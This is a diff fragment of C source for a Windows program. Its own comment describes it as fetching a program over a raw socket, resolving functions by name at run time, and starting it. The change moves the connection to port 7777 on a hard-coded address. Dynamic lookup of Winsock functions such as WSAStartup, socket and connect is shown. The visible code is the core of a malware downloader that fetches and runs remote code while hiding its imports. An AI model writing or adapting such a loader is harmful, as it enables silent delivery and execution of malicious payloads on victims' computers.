@@ -1,4 +1,4 @@
-/* Fetches a program with its own HTTP over a socket, functions found by name at run time, and
+/* Fetches a program with its own HTTP from an odd port, functions found by name at run time, and
  * starts it. */
 #include <winsock2.h>
 
@@ -31,7 +31,7 @@ int main(void)
 	if (sockets == NULL)
 		return 1;
 	((startup_function)(void *)find(sockets, "WSAStartup"))(MAKEWORD(2, 2), &data);
-	server.sin_port = (unsigned short)(80 << 8);
+	server.sin_port = (unsigned short)(7777 >> 8 | (7777 & 0xff) << 8);
 	server.sin_addr.s_addr = 198u | 51u << 8 | 100u << 16 | 9u << 24;
 	SOCKET s = ((socket_function)(void *)find(sockets, "socket"))(AF_INET, SOCK_STREAM, 0);
 	if (((connect_function)(void *)find(sockets, "connect"))(s, (struct sockaddr *)&server,
